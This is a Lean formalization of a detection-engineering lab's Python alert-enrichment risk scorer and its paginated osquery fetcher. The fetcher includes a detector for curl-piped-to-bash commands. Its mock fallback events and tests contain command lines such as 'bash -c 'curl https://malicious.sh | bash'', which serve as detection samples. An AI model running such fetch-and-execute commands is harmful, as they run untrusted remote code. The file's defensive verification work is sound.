import Mathlib

/-!
Shallow embedding of the two scripts of `detection-engineering-mini-lab`:

* `src/python/enrichment/enrich_alert.py` — identity/geo alert enrichment
  with a deterministic risk scorer (`calculate_identity_risk`,
  `enrich_alert`);
* `src/python/detections/paginated_osquery_client_env.py` — cursor-based
  paginated fetching with tiered error handling (`fetch_page`,
  `fetch_all_events`) and a detection filter (`detect_curl_pipe_bash`).

Python dictionaries are modelled as association lists of string keys and
scalar values; network effects are modelled by passing the environment
(the server, the identity/geo resolvers) as explicit function arguments,
and the unbounded `while True` pagination loop is given explicit fuel.
-/

/-- Scalar Python value as manipulated by the two scripts: `None`, booleans,
integers and strings.  `PyVal.none` models Python `None`, in particular the
result of `dict.get` on a missing key.  Equality of `PyVal` models Python
`==` on these values as used by the scripts (string-to-string and
value-to-string comparisons). -/
inductive PyVal where
  | none
  | bool (b : Bool)
  | int (n : Int)
  | str (s : String)
deriving DecidableEq, Repr

/-- Python truthiness `bool(v)` for scalar values: `None` and `False` are
falsy, `0` is falsy, the empty string is falsy, everything else is truthy. -/
def PyVal.truthy : PyVal → Bool
  | PyVal.none => false
  | PyVal.bool b => b
  | PyVal.int n => n != 0
  | PyVal.str s => !s.isEmpty

/-- Python dict with string keys and scalar values, modelled as an
association list in insertion order (Python dicts preserve insertion order;
lookups read the first binding of a key). -/
abbrev Dict := List (String × PyVal)

/-- First binding of key `k` in the dict, if any. -/
def Dict.find (d : Dict) (k : String) : Option PyVal :=
  (List.find? (fun p => p.1 == k) d).map Prod.snd

/-- Python `d.get(k)`: the value bound to `k`, or `None` when absent. -/
def Dict.get (d : Dict) (k : String) : PyVal :=
  (Dict.find d k).getD PyVal.none

/-- Python `d.get(k, default)`. -/
def Dict.getD (d : Dict) (k : String) (v : PyVal) : PyVal :=
  (Dict.find d k).getD v

/-- Python `d[k] = v`: replace the value of the first binding of `k`
in place, or append a new binding at the end. -/
def Dict.set : Dict → String → PyVal → Dict
  | [], k, v => [(k, v)]
  | (k0, v0) :: d, k, v =>
      if k0 = k then (k, v) :: d else (k0, v0) :: Dict.set d k v

/-- Python double-splat merge of two dicts (as in the dict display
`\x7b**alert, "user_email": ..., ...\x7d` of `enrich_alert`): the keys of `d`
keep their position, with values overridden by `u` where `u` also binds the
key, and the keys of `u` that are new are appended in order. -/
def Dict.merge (d u : Dict) : Dict :=
  d.map (fun p => (p.1, (Dict.find u p.1).getD p.2)) ++
    u.filter (fun p => (Dict.find d p.1).isNone)

/-!
### Risk scoring (`enrich_alert.py`, lines 103-123)
-/

/-- Condition of the first `if` block of `calculate_identity_risk`:
`user.get("status") in ["SUSPENDED", "DEPROVISIONED"]`. -/
def status_risky (user : Dict) : Bool :=
  [PyVal.str "SUSPENDED", PyVal.str "DEPROVISIONED"].contains (Dict.get user "status")

/-- Condition of the second `if` block of `calculate_identity_risk`:
`not user.get("mfa_enabled", True)`. -/
def mfa_off (user : Dict) : Bool :=
  !(PyVal.truthy (Dict.getD user "mfa_enabled" (PyVal.bool true)))

/-- Condition of the third `if` block of `calculate_identity_risk`:
`geo and geo.get("country") not in ("US", "UK")` — `geo` must be truthy
(a passed, non-empty dict), and Python `and` short-circuits, so
`geo.get("country")` only runs on a non-empty dict. -/
def geo_unusual : Option Dict → Bool
  | Option.none => false
  | Option.some g =>
      !g.isEmpty && !([PyVal.str "US", PyVal.str "UK"].contains (Dict.get g "country"))

/-- Running `score` variable of `calculate_identity_risk` just before the
final `return min(score, 100)`: the value accumulated by the three `if`
blocks.  The second parameter is the optional `geo` argument (Python default
`None`); `Option.some []` is an explicitly passed empty dict, which Python
`if geo and ...` treats the same as `None`. -/
def raw_score (user : Dict) (geo : Option Dict) : Int :=
  let score : Int := 0
  let score := if status_risky user then score + 60 else score
  let score := if mfa_off user then score + 20 else score
  let score := if geo_unusual geo then score + 20 else score
  score

/-- Source `calculate_identity_risk(user, geo=None)` from
`src/python/enrichment/enrich_alert.py`. -/
def calculate_identity_risk (user : Dict) (geo : Option Dict) : Int :=
  min (raw_score user geo) 100

/-- Reference additive risk policy, written from the words of spec section
4.5: +60 when `identity.status` is `SUSPENDED` or `DEPROVISIONED`; +20 when
`identity.mfa_enabled == false` (missing means enabled, no penalty); +20
when geo is present and `geo.country` is not `US` or `UK` (per section 4.4
an empty GeoRecord stands for an absent geo, so present means a non-empty
record); final score `min(sum, 100)`. -/
def score_spec (user : Dict) (geo : Option Dict) : Int :=
  let statusFactor : Int :=
    if Dict.get user "status" = PyVal.str "SUSPENDED" ∨
       Dict.get user "status" = PyVal.str "DEPROVISIONED"
    then 60 else 0
  let mfaFactor : Int :=
    if Dict.get user "mfa_enabled" = PyVal.bool false then 20 else 0
  let geoFactor : Int :=
    match geo with
    | Option.none => 0
    | Option.some g =>
        if g ≠ [] ∧ Dict.get g "country" ≠ PyVal.str "US" ∧
           Dict.get g "country" ≠ PyVal.str "UK"
        then 20 else 0
  min (statusFactor + mfaFactor + geoFactor) 100

/-!
### Enrichment orchestrator (`enrich_alert.py`, lines 130-156)
-/

/-- Enrichment-specific keys written by the dict display of `enrich_alert`. -/
def enrichmentKeys : List String :=
  ["user_email", "user_department", "user_status", "mfa_enabled",
   "last_login", "geo_country", "geo_city", "risk_score", "enrichment_env"]

/-- Source `enrich_alert(alert)` from `src/python/enrichment/enrich_alert.py`.
The two mockable API clients `get_identity_from_okta` and `get_geoip_info`
and the `API_CONFIG["env"]` tag are passed explicitly (in the script they
are module-level functions drawing on randomness or the network, and a
module-level config). -/
def enrich_alert (get_identity_from_okta : PyVal → Dict)
    (get_geoip_info : PyVal → Dict) (env : String) (alert : Dict) : Dict :=
  let user_id := Dict.get alert "user_id"
  let src_ip := Dict.get alert "src_ip"
  let identity_data := get_identity_from_okta user_id
  let geo_data := if PyVal.truthy src_ip then get_geoip_info src_ip else []
  let risk_score := calculate_identity_risk identity_data (Option.some geo_data)
  Dict.merge alert
    [("user_email", Dict.get identity_data "email"),
     ("user_department", Dict.get identity_data "department"),
     ("user_status", Dict.get identity_data "status"),
     ("mfa_enabled", Dict.get identity_data "mfa_enabled"),
     ("last_login", Dict.get identity_data "last_login"),
     ("geo_country", Dict.get geo_data "country"),
     ("geo_city", Dict.get geo_data "city"),
     ("risk_score", PyVal.int risk_score),
     ("enrichment_env", PyVal.str env)]

/-!
### Page fetching (`paginated_osquery_client_env.py`, lines 43-63)
-/

/-- Parsed JSON page body `\x7b"events": [...], "next_cursor": string|null\x7d`. -/
structure PageResult where
  events : List Dict
  next_cursor : Option String
deriving DecidableEq, Repr

/-- Query parameters built by the pagination loop: `limit` always,
`cursor` only when truthy. -/
structure Params where
  limit : Int
  cursor : Option String
deriving DecidableEq, Repr

/-- Outcome of one `requests.get` call as seen by `fetch_page`: either an
HTTP response with a status code and a parsed JSON body, or a
transport-level failure (connection refused, timeout, DNS failure, ...)
raising a `requests.RequestException`. -/
inductive NetOutcome where
  | response (status : Nat) (body : PageResult)
  | transportFailure (msg : String)

/-- Python truthiness of a cursor value (`if cursor:` / `if not cursor:`):
`None` and the empty string are falsy. -/
def cursorTruthy : Option String → Bool
  | Option.none => false
  | Option.some s => !s.isEmpty

/-- Fixed fallback mock page returned by `fetch_page` on a transport-level
request error, verbatim from the source. -/
def fallback_page : PageResult :=
  { events :=
      [[("pid", PyVal.int 1),
        ("cmdline", PyVal.str "bash -c 'curl https://malicious.sh | bash'")],
       [("pid", PyVal.int 2),
        ("cmdline", PyVal.str "curl https://legit.sh -o /tmp/x && bash /tmp/x")]],
    next_cursor := Option.none }

/-- Source `fetch_page` from
`src/python/detections/paginated_osquery_client_env.py`: on an HTTP
response, `resp.raise_for_status()` raises exactly for status codes in
[400, 599], and the handler returns the empty page; on a
`requests.RequestException` (transport failure) the handler returns the
fixed fallback page; otherwise the parsed body is returned. -/
def fetch_page (outcome : NetOutcome) : PageResult :=
  match outcome with
  | NetOutcome.response status body =>
      if 400 ≤ status && status ≤ 599 then
        { events := [], next_cursor := Option.none }
      else body
  | NetOutcome.transportFailure _ => fallback_page

/-!
### Pagination driver (`paginated_osquery_client_env.py`, lines 66-89)

The script loops `while True`, so the remote server can in principle force
unbounded iteration (spec section 9 flags this).  The loop body is embedded
with explicit fuel; `Option.none` is the (never-returning) run that
exhausts its fuel.  The server is the environment: a function from the
page number and the request parameters of a call to that call's outcome.
-/

/-- Loop body of `fetch_all_events`: state is the pending `cursor`, the
accumulator `all_events` and the 1-based `page_num`.  Each iteration builds
`params` (`limit` always, `cursor` only when truthy), fetches one page,
extends the accumulator, advances the cursor, and stops when the new cursor
is falsy, returning the accumulated events and the final page number
(= the number of fetches performed). -/
def fetch_all_events_aux (server : Nat → Params → NetOutcome) (page_size : Int) :
    Nat → Option String → List Dict → Nat → Option (List Dict × Nat)
  | 0, _, _, _ => Option.none
  | fuel + 1, cursor, all_events, page_num =>
      let params : Params :=
        { limit := page_size,
          cursor := if cursorTruthy cursor then cursor else Option.none }
      let data := fetch_page (server page_num params)
      let all_events2 := all_events ++ data.events
      let cursor2 := data.next_cursor
      if cursorTruthy cursor2 then
        fetch_all_events_aux server page_size fuel cursor2 all_events2 (page_num + 1)
      else
        Option.some (all_events2, page_num)

/-- Source `fetch_all_events(cfg)`: start with `cursor = None`, an empty
accumulator and `page_num = 1`. -/
def fetch_all_events (server : Nat → Params → NetOutcome) (page_size : Int)
    (fuel : Nat) : Option (List Dict × Nat) :=
  fetch_all_events_aux server page_size fuel Option.none [] 1

/-- Trace of a pagination run: the sequence of page results produced by
`fetch_page`, in fetch order, for the same loop state as
`fetch_all_events_aux`. -/
def run_trace (server : Nat → Params → NetOutcome) (page_size : Int) :
    Nat → Option String → Nat → Option (List PageResult)
  | 0, _, _ => Option.none
  | fuel + 1, cursor, page_num =>
      let params : Params :=
        { limit := page_size,
          cursor := if cursorTruthy cursor then cursor else Option.none }
      let data := fetch_page (server page_num params)
      if cursorTruthy data.next_cursor then
        (run_trace server page_size fuel data.next_cursor (page_num + 1)).map
          (fun ps => data :: ps)
      else
        Option.some [data]

/-- Chain condition on a finite sequence of page responses: the sequence is
non-empty, every page but the last carries a truthy (non-null, non-empty)
`next_cursor`, and the last page carries a falsy (null or empty-string)
`next_cursor`. -/
def isChain : List PageResult → Bool
  | [] => false
  | [p] => !cursorTruthy p.next_cursor
  | p :: q :: ps => cursorTruthy p.next_cursor && isChain (q :: ps)

/-- Server that answers the `i`-th fetch (1-based) with HTTP 200 and the
`i`-th page of the given finite sequence, regardless of parameters. -/
def serverOfPages (pages : List PageResult) : Nat → Params → NetOutcome :=
  fun i _ =>
    NetOutcome.response 200
      (pages.getD (i - 1) { events := [], next_cursor := Option.none })

/-!
### Detection filter (`paginated_osquery_client_env.py`, lines 92-94)
-/

/-- Check that `pat` occurs as a contiguous sublist, at any position. -/
def strContainsAux (pat : List Char) : List Char → Bool
  | [] => pat.isEmpty
  | c :: cs => List.isPrefixOf pat (c :: cs) || strContainsAux pat cs

/-- Python substring test `pat in s` on strings. -/
def strContains (s pat : String) : Bool :=
  strContainsAux pat.data s.data

/-- ASCII lowercase of a character (`str.lower` restricted to ASCII, which
is all the detection pattern `"| bash"` distinguishes). -/
def char_lower (c : Char) : Char :=
  if 65 ≤ c.toNat ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c

/-- ASCII lowercase of a string. -/
def str_lower (s : String) : String :=
  String.mk (s.data.map char_lower)

/-- Python `v.lower()`: defined on strings (the script only lowercases
`cmdline` values), an `AttributeError` on any other value, modelled as
`Option.none`. -/
def pyLower : PyVal → Option String
  | PyVal.str s => Option.some (str_lower s)
  | _ => Option.none

/-- Source `detect_curl_pipe_bash(events)`: the list comprehension
`[e for e in events if "| bash" in e.get("cmdline", "").lower()]`.
`Option.none` models the run raising an exception (a `cmdline` value that
is present but not a string). -/
def detect_curl_pipe_bash : List Dict → Option (List Dict)
  | [] => Option.some []
  | e :: es =>
      match pyLower (Dict.getD e "cmdline" (PyVal.str "")) with
      | Option.none => Option.none
      | Option.some low =>
          match detect_curl_pipe_bash es with
          | Option.none => Option.none
          | Option.some rest =>
              Option.some (if strContains low "| bash" then e :: rest else rest)

/-- Decidable form of the detection predicate: the event has no `cmdline`
binding or a string one, and the lowercased `cmdline` (missing treated as
the empty string) contains `"| bash"`. -/
def eventMatches (e : Dict) : Bool :=
  match Dict.getD e "cmdline" (PyVal.str "") with
  | PyVal.str s => strContains (str_lower s) "| bash"
  | _ => false

/-- Event whose `cmdline` field, when present, is a string (the only events
on which the Python filter cannot raise). -/
def cmdlineTyped (e : Dict) : Bool :=
  match Dict.getD e "cmdline" (PyVal.str "") with
  | PyVal.str _ => true
  | _ => false

/-!
### Lemmas about the risk scorer
-/

/-- Additive form of the running score: the three sequential `if` blocks
sum three independent factors. -/
lemma raw_score_eq (user : Dict) (geo : Option Dict) :
    raw_score user geo =
      (if status_risky user then (60 : Int) else 0) +
      (if mfa_off user then (20 : Int) else 0) +
      (if geo_unusual geo then (20 : Int) else 0) := by
  simp only [raw_score]
  split_ifs <;> omega

/-!
### Claim theorems: risk scorer
-/

/-- C2.  `calculate_identity_risk` equals the reference additive policy of
spec section 4.5 on every identity record (per the data model,
`mfa_enabled`, when present, is a boolean) and optional geo record; the
result is an integer in [0, 100]; and the Scenario C input
(status SUSPENDED, mfa disabled, country FR) scores exactly 100. -/
theorem calculate_identity_risk_matches_policy :
    (∀ user geo,
      (Dict.find user "mfa_enabled" = Option.none ∨
        ∃ b, Dict.find user "mfa_enabled" = Option.some (PyVal.bool b)) →
      calculate_identity_risk user geo = score_spec user geo) ∧
    (∀ user geo,
      0 ≤ calculate_identity_risk user geo ∧ calculate_identity_risk user geo ≤ 100) ∧
    calculate_identity_risk
      [("status", PyVal.str "SUSPENDED"), ("mfa_enabled", PyVal.bool false)]
      (Option.some [("country", PyVal.str "FR")]) = 100 := by
  refine ⟨?_, ?_, by decide⟩
  · intro user geo hmfa
    have hstatus :
        (if status_risky user then (60 : Int) else 0) =
        (if Dict.get user "status" = PyVal.str "SUSPENDED" ∨
            Dict.get user "status" = PyVal.str "DEPROVISIONED"
          then (60 : Int) else 0) := by
      refine if_congr ?_ rfl rfl
      simp [status_risky, List.elem_iff]
    have hmfa2 :
        (if mfa_off user then (20 : Int) else 0) =
        (if Dict.get user "mfa_enabled" = PyVal.bool false then (20 : Int) else 0) := by
      refine if_congr ?_ rfl rfl
      rcases hmfa with h | ⟨b, h⟩
      · simp [mfa_off, Dict.getD, Dict.get, h, PyVal.truthy]
      · cases b <;> simp [mfa_off, Dict.getD, Dict.get, h, PyVal.truthy]
    simp only [calculate_identity_risk, score_spec]
    rw [raw_score_eq, hstatus, hmfa2]
    cases geo with
    | none => rfl
    | some g =>
        have hgeo :
            (if geo_unusual (Option.some g) then (20 : Int) else 0) =
            (if g ≠ [] ∧ Dict.get g "country" ≠ PyVal.str "US" ∧
                Dict.get g "country" ≠ PyVal.str "UK"
              then (20 : Int) else 0) := by
          refine if_congr ?_ rfl rfl
          simp [geo_unusual, List.elem_iff, List.isEmpty_iff, not_or, and_assoc]
        rw [hgeo]
  · intro user geo
    simp only [calculate_identity_risk]
    rw [raw_score_eq]
    split_ifs <;> omega

/-- Witness for C2 at a concrete well-typed identity record. -/
theorem calculate_identity_risk_matches_policy_witness :
    calculate_identity_risk [("status", PyVal.str "ACTIVE"), ("mfa_enabled", PyVal.bool true)]
      (Option.some [("country", PyVal.str "US")]) =
      score_spec [("status", PyVal.str "ACTIVE"), ("mfa_enabled", PyVal.bool true)]
        (Option.some [("country", PyVal.str "US")]) :=
  calculate_identity_risk_matches_policy.1
    [("status", PyVal.str "ACTIVE"), ("mfa_enabled", PyVal.bool true)]
    (Option.some [("country", PyVal.str "US")])
    (Or.inr ⟨true, by decide⟩)

/-- C10.  The risk score always equals the unclamped running sum (so the
final `min(score, 100)` is never strictly binding), the running sum never
exceeds 100, the score always lies in \x7b0, 20, 40, 60, 80, 100\x7d, and the
maximum raw sum of 100 is achieved (at the Scenario C input). -/
theorem calculate_identity_risk_multiple_of_twenty :
    (∀ user geo,
      calculate_identity_risk user geo = raw_score user geo ∧
      raw_score user geo ≤ 100 ∧
      calculate_identity_risk user geo ∈ ([0, 20, 40, 60, 80, 100] : List Int)) ∧
    raw_score [("status", PyVal.str "SUSPENDED"), ("mfa_enabled", PyVal.bool false)]
      (Option.some [("country", PyVal.str "FR")]) = 100 := by
  refine ⟨?_, by decide⟩
  intro user geo
  simp only [calculate_identity_risk]
  rw [raw_score_eq]
  split_ifs <;> exact ⟨by omega, by omega, by decide⟩

/-- C1 counterexample.  With an unknown identity, the error-marker geo
record returned by a failed geo lookup scores 20, while an absent geo
scores 0: a resolver failure does contribute risk. -/
theorem resolver_geo_error_counterexample :
    ¬ (calculate_identity_risk []
        (Option.some [("ip", PyVal.str "198.51.100.7"), ("error", PyVal.str "timeout")]) =
      calculate_identity_risk [] Option.none) := by
  decide

/-- C1 amended.  An error-marked identity record contributes no risk (it
scores exactly like an unknown, empty identity record), but an error-marked
geo record `\x7bip, error\x7d` is a non-empty mapping without a `country`
binding, so the +20 unusual-geo factor is always added: with such a geo the
score is exactly 20 more than with geo absent. -/
theorem resolver_error_risk_contribution :
    (∀ user ipv errv,
      calculate_identity_risk user (Option.some [("ip", ipv), ("error", errv)]) =
        calculate_identity_risk user Option.none + 20) ∧
    (∀ geo errv uidv,
      calculate_identity_risk [("error", errv), ("user_id", uidv)] geo =
        calculate_identity_risk [] geo) := by
  constructor
  · intro user ipv errv
    have hgeo : geo_unusual (Option.some [("ip", ipv), ("error", errv)]) = true := rfl
    have hnone : ¬ (geo_unusual (Option.none : Option Dict) = true) := by decide
    simp only [calculate_identity_risk]
    rw [raw_score_eq, raw_score_eq, if_pos hgeo, if_neg hnone]
    split_ifs <;> omega
  · intro geo errv uidv
    rfl

/-!
### Claim theorems: page fetcher
-/

/-- C3.  `fetch_page` classification: any HTTP response with status in
[400, 599] yields the empty page (no events, null cursor); any transport
failure yields the fixed fallback page, which carries exactly 2 synthetic
demo events and a null cursor.  Both outcomes are returned values of a
total function: no exception reaches the caller. -/
theorem fetch_page_error_classification :
    (∀ status body, 400 ≤ status → status ≤ 599 →
      fetch_page (NetOutcome.response status body) =
        { events := [], next_cursor := Option.none }) ∧
    (∀ msg, fetch_page (NetOutcome.transportFailure msg) = fallback_page) ∧
    fallback_page.events.length = 2 ∧
    fallback_page.next_cursor = Option.none := by
  refine ⟨?_, fun _ => rfl, rfl, rfl⟩
  intro status body h1 h2
  simp [fetch_page, h1, h2]

/-- Witness for C3: a 404 response yields the empty page. -/
theorem fetch_page_error_classification_witness :
    fetch_page (NetOutcome.response 404 fallback_page) =
      { events := [], next_cursor := Option.none } :=
  fetch_page_error_classification.1 404 fallback_page (by decide) (by decide)

/-!
### Lemmas about dict update
-/

/-- Lookup on a cons cell: hit the head binding or continue. -/
lemma find_cons (k0 : String) (v0 : PyVal) (d : Dict) (k : String) :
    Dict.find ((k0, v0) :: d) k = if k0 = k then Option.some v0 else Dict.find d k := by
  by_cases h : k0 = k
  · rw [if_pos h]
    simp only [Dict.find]
    rw [List.find?_cons_of_pos]
    · rfl
    · simpa using h
  · rw [if_neg h]
    simp only [Dict.find]
    rw [List.find?_cons_of_neg]
    simpa using h

/-- Setting a key makes its value the result of a lookup of that key. -/
lemma find_set_same (d : Dict) (k : String) (v : PyVal) :
    Dict.find (Dict.set d k v) k = Option.some v := by
  induction d with
  | nil =>
      show Dict.find [(k, v)] k = Option.some v
      rw [find_cons, if_pos rfl]
  | cons p d ih =>
      obtain ⟨k0, v0⟩ := p
      simp only [Dict.set]
      by_cases h : k0 = k
      · rw [if_pos h, find_cons, if_pos rfl]
      · rw [if_neg h, find_cons, if_neg h, ih]

/-- Setting a key leaves lookups of other keys unchanged. -/
lemma find_set_other (d : Dict) (k k2 : String) (v : PyVal) (hne : k2 ≠ k) :
    Dict.find (Dict.set d k v) k2 = Dict.find d k2 := by
  induction d with
  | nil =>
      show Dict.find [(k, v)] k2 = Dict.find [] k2
      rw [find_cons, if_neg (Ne.symm hne)]
  | cons p d ih =>
      obtain ⟨k0, v0⟩ := p
      simp only [Dict.set]
      by_cases h : k0 = k
      · have h0 : ¬ k0 = k2 := by
          rw [h]
          exact Ne.symm hne
        rw [if_pos h, find_cons, find_cons, if_neg (Ne.symm hne), if_neg h0]
      · rw [if_neg h, find_cons, find_cons, ih]

/-- A dict with a freshly set key is never empty. -/
lemma set_isEmpty (d : Dict) (k : String) (v : PyVal) :
    (Dict.set d k v).isEmpty = false := by
  cases d with
  | nil => rfl
  | cons p d =>
      obtain ⟨k0, v0⟩ := p
      by_cases h : k0 = k <;> simp [Dict.set, h]

/-!
### Claim theorems: monotonicity of the risk scorer
-/

/-- C7.  The risk score is monotone non-decreasing in each factor
independently: moving `status` from outside \x7bSUSPENDED, DEPROVISIONED\x7d to
inside, moving `mfa_enabled` from `True` to `False`, or moving
`geo.country` from inside \x7bUS, UK\x7d to outside, with everything else fixed,
never decreases the score; and the score always lies in [0, 100]. -/
theorem calculate_identity_risk_monotone :
    (∀ user geo s1 s2,
      ¬ s1 ∈ [PyVal.str "SUSPENDED", PyVal.str "DEPROVISIONED"] →
      s2 ∈ [PyVal.str "SUSPENDED", PyVal.str "DEPROVISIONED"] →
      calculate_identity_risk (Dict.set user "status" s1) geo ≤
        calculate_identity_risk (Dict.set user "status" s2) geo) ∧
    (∀ user geo,
      calculate_identity_risk (Dict.set user "mfa_enabled" (PyVal.bool true)) geo ≤
        calculate_identity_risk (Dict.set user "mfa_enabled" (PyVal.bool false)) geo) ∧
    (∀ user g c1 c2,
      c1 ∈ [PyVal.str "US", PyVal.str "UK"] →
      ¬ c2 ∈ [PyVal.str "US", PyVal.str "UK"] →
      calculate_identity_risk user (Option.some (Dict.set g "country" c1)) ≤
        calculate_identity_risk user (Option.some (Dict.set g "country" c2))) ∧
    (∀ user geo,
      0 ≤ calculate_identity_risk user geo ∧ calculate_identity_risk user geo ≤ 100) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro user geo s1 s2 hs1 hs2
    have hg1 : Dict.get (Dict.set user "status" s1) "status" = s1 := by
      simp [Dict.get, find_set_same]
    have hg2 : Dict.get (Dict.set user "status" s2) "status" = s2 := by
      simp [Dict.get, find_set_same]
    have h1 : ¬ (status_risky (Dict.set user "status" s1) = true) := by
      simp only [status_risky, hg1]
      intro hc
      exact hs1 (List.elem_iff.mp hc)
    have h2 : status_risky (Dict.set user "status" s2) = true := by
      simp only [status_risky, hg2]
      exact List.elem_iff.mpr hs2
    have hm1 : mfa_off (Dict.set user "status" s1) = mfa_off user := by
      simp only [mfa_off, Dict.getD]
      rw [find_set_other user "status" "mfa_enabled" s1 (by decide)]
    have hm2 : mfa_off (Dict.set user "status" s2) = mfa_off user := by
      simp only [mfa_off, Dict.getD]
      rw [find_set_other user "status" "mfa_enabled" s2 (by decide)]
    simp only [calculate_identity_risk]
    rw [raw_score_eq, raw_score_eq, hm1, hm2, if_neg h1, if_pos h2]
    split_ifs <;> omega
  · intro user geo
    have h1 : ¬ (mfa_off (Dict.set user "mfa_enabled" (PyVal.bool true)) = true) := by
      simp [mfa_off, Dict.getD, find_set_same, PyVal.truthy]
    have h2 : mfa_off (Dict.set user "mfa_enabled" (PyVal.bool false)) = true := by
      simp [mfa_off, Dict.getD, find_set_same, PyVal.truthy]
    have hst : ∀ b, status_risky (Dict.set user "mfa_enabled" (PyVal.bool b)) =
        status_risky user := by
      intro b
      simp only [status_risky, Dict.get]
      rw [find_set_other user "mfa_enabled" "status" (PyVal.bool b) (by decide)]
    simp only [calculate_identity_risk]
    rw [raw_score_eq, raw_score_eq, hst, hst, if_neg h1, if_pos h2]
    split_ifs <;> omega
  · intro user g c1 c2 hc1 hc2
    have hg1 : Dict.get (Dict.set g "country" c1) "country" = c1 := by
      simp [Dict.get, find_set_same]
    have hg2 : Dict.get (Dict.set g "country" c2) "country" = c2 := by
      simp [Dict.get, find_set_same]
    have h1 : ¬ (geo_unusual (Option.some (Dict.set g "country" c1)) = true) := by
      have hc : [PyVal.str "US", PyVal.str "UK"].contains c1 = true := List.elem_iff.mpr hc1
      simp only [geo_unusual]
      rw [set_isEmpty, hg1, hc]
      decide
    have h2 : geo_unusual (Option.some (Dict.set g "country" c2)) = true := by
      have hc : [PyVal.str "US", PyVal.str "UK"].contains c2 = false :=
        Bool.eq_false_iff.mpr (fun hcc => hc2 (List.elem_iff.mp hcc))
      simp only [geo_unusual]
      rw [set_isEmpty, hg2, hc]
      decide
    simp only [calculate_identity_risk]
    rw [raw_score_eq, raw_score_eq, if_neg h1, if_pos h2]
    split_ifs <;> omega
  · intro user geo
    simp only [calculate_identity_risk]
    rw [raw_score_eq]
    split_ifs <;> omega

/-- Witness for C7: moving `status` from ACTIVE to SUSPENDED does not
decrease the score. -/
theorem calculate_identity_risk_monotone_witness :
    calculate_identity_risk (Dict.set [] "status" (PyVal.str "ACTIVE")) Option.none ≤
      calculate_identity_risk (Dict.set [] "status" (PyVal.str "SUSPENDED")) Option.none :=
  calculate_identity_risk_monotone.1 [] Option.none (PyVal.str "ACTIVE")
    (PyVal.str "SUSPENDED") (by decide) (by decide)

/-!
### Lemmas about the detection filter
-/

/-- On events whose `cmdline`, when present, is a string, the filter
succeeds and returns exactly the events matching the detection predicate. -/
lemma detect_eq_filter :
    ∀ es : List Dict, (∀ e ∈ es, cmdlineTyped e = true) →
      detect_curl_pipe_bash es = Option.some (es.filter eventMatches) := by
  intro es
  induction es with
  | nil => intro _; rfl
  | cons e es ih =>
      intro h
      have he : cmdlineTyped e = true := h e (List.mem_cons_self e es)
      have hes : ∀ x ∈ es, cmdlineTyped x = true :=
        fun x hx => h x (List.mem_cons_of_mem e hx)
      rcases hv : Dict.getD e "cmdline" (PyVal.str "") with _ | b | n | s
      · simp [cmdlineTyped, hv] at he
      · simp [cmdlineTyped, hv] at he
      · simp [cmdlineTyped, hv] at he
      · have hm : eventMatches e = strContains (str_lower s) "| bash" := by
          simp [eventMatches, hv]
        simp only [detect_curl_pipe_bash, hv, pyLower, ih hes, List.filter_cons, hm]

/-- When the filter succeeds, every input event had a well-typed `cmdline`
and the output is exactly the filtered input. -/
lemma detect_some_inv :
    ∀ es rs : List Dict, detect_curl_pipe_bash es = Option.some rs →
      (∀ e ∈ es, cmdlineTyped e = true) ∧ rs = es.filter eventMatches := by
  intro es
  induction es with
  | nil =>
      intro rs h
      simp only [detect_curl_pipe_bash, Option.some.injEq] at h
      exact ⟨by simp, by simp [← h]⟩
  | cons e es ih =>
      intro rs h
      rcases hv : Dict.getD e "cmdline" (PyVal.str "") with _ | b | n | s
      · simp [detect_curl_pipe_bash, hv, pyLower] at h
      · simp [detect_curl_pipe_bash, hv, pyLower] at h
      · simp [detect_curl_pipe_bash, hv, pyLower] at h
      · simp only [detect_curl_pipe_bash, hv, pyLower] at h
        cases hrec : detect_curl_pipe_bash es with
        | none => rw [hrec] at h; simp at h
        | some rest =>
            rw [hrec] at h
            simp only [Option.some.injEq] at h
            obtain ⟨hty, hrest⟩ := ih rest hrec
            refine ⟨?_, ?_⟩
            · intro x hx
              rcases List.mem_cons.mp hx with hx | hx
              · subst hx
                simp [cmdlineTyped, hv]
              · exact hty x hx
            · have hm : eventMatches e = strContains (str_lower s) "| bash" := by
                simp [eventMatches, hv]
              rw [← h, hrest, List.filter_cons, hm]

/-!
### Claim theorems: detection filter
-/

/-- C6.  On every event list whose `cmdline` fields, when present, are
strings, the filter never raises and returns exactly the subsequence of
events whose lowercased `cmdline` contains `"| bash"`; an event with no
`cmdline` binding is treated as the empty string and never matches; and on
the Scenario A input the filter returns exactly the first event. -/
theorem detect_curl_pipe_bash_spec :
    (∀ events, (∀ e ∈ events, cmdlineTyped e = true) →
      detect_curl_pipe_bash events = Option.some (events.filter eventMatches)) ∧
    (∀ e, Dict.find e "cmdline" = Option.none → eventMatches e = false) ∧
    detect_curl_pipe_bash
      [[("cmdline", PyVal.str "bash -c 'curl x | bash'")], [("cmdline", PyVal.str "ls -la")]] =
      Option.some [[("cmdline", PyVal.str "bash -c 'curl x | bash'")]] := by
  refine ⟨detect_eq_filter, ?_, by decide⟩
  intro e he
  unfold eventMatches Dict.getD
  rw [he]
  decide

/-- Witness for C6 at the Scenario A input. -/
theorem detect_curl_pipe_bash_spec_witness :
    detect_curl_pipe_bash
      [[("cmdline", PyVal.str "bash -c 'curl x | bash'")], [("cmdline", PyVal.str "ls -la")]] =
      Option.some
        ([[("cmdline", PyVal.str "bash -c 'curl x | bash'")],
          [("cmdline", PyVal.str "ls -la")]].filter eventMatches) :=
  detect_curl_pipe_bash_spec.1
    [[("cmdline", PyVal.str "bash -c 'curl x | bash'")], [("cmdline", PyVal.str "ls -la")]]
    (by decide)

/-- C8.  The detection filter is idempotent: running it again on its own
output changes nothing (composition through `Option.bind`, since a run
models a possible exception; on a successful run, refiltering the output
returns it unchanged). -/
theorem detect_curl_pipe_bash_idempotent :
    ∀ es, (detect_curl_pipe_bash es).bind detect_curl_pipe_bash = detect_curl_pipe_bash es := by
  intro es
  cases h : detect_curl_pipe_bash es with
  | none => rfl
  | some rs =>
      obtain ⟨hty, hrs⟩ := detect_some_inv es rs h
      have hty2 : ∀ e ∈ rs, cmdlineTyped e = true := by
        intro e he
        rw [hrs] at he
        exact hty e (List.mem_of_mem_filter he)
      have hfix : rs.filter eventMatches = rs :=
        List.filter_eq_self.mpr (fun a ha => by rw [hrs] at ha; exact List.of_mem_filter ha)
      show detect_curl_pipe_bash rs = Option.some rs
      rw [detect_eq_filter rs hty2, hfix]

/-!
### Lemmas about the pagination driver
-/

/-- The accumulator only prefixes the final event list: a run started with
accumulator `acc` returns `acc ++` whatever a run started empty returns. -/
